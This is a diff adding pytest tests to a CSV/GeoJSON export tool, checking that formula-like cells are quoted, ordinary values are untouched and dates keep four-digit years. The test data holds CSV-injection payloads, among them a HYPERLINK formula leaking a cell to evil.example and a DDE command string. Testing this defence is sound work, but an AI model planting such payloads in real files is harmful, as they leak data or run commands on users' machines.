@@ -148,3 +148,38 @@ def test_cli_reports_broken_data_without_a_traceback(tmp_path, capsys, monkeypat
     assert captured.out == ""
     assert f"{broken}:" in captured.err and "place_id: 'atlantis'" in captured.err
     assert "Traceback" not in captured.err
+
+
+# --- issue 9: spreadsheet formulas and the year 1 -------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"open")&" Fighting in Homs"'
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "  =1+1"],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(df, cell):
+    hostile = df.head(2).copy()
+    hostile.loc[hostile.index[0], "excerpt"] = cell
+    hostile.loc[hostile.index[1], "title"] = cell
+    for text in (to_csv(hostile), render(hostile, "csv")):  # the CLI and the page's download
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert rows[0]["excerpt"] == "'" + cell and rows[1]["title"] == "'" + cell
+        assert rows[0]["title"] == hostile.iloc[0]["title"]  # ordinary text untouched
+        assert float(rows[0]["lon"]) == pytest.approx(hostile.iloc[0]["lon"])
+
+
+def test_csv_leaves_numbers_and_ordinary_text_alone(df):
+    text = df.assign(lon=-73.9, actors="-5", reported_by="x=1").pipe(to_csv)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {(r["lon"], r["actors"], r["reported_by"]) for r in rows} == {("-73.9", "-5", "x=1")}
+
+
+def test_days_are_iso_with_four_digit_years(df):
+    early = df.head(1).assign(start=pd.Timestamp("0001-01-01"), end=pd.Timestamp("0001-01-01"))
+    early = early.astype({"start": "datetime64[s]", "end": "datetime64[s]"})
+    row = next(csv.DictReader(io.StringIO(to_csv(early))))
+    assert (row["start"], row["end"]) == ("0001-01-01", "0001-01-01")  # not "1-01-01"
+    feature = to_geojson(early)["features"][0]
+    assert feature["properties"]["start"] == "0001-01-01"
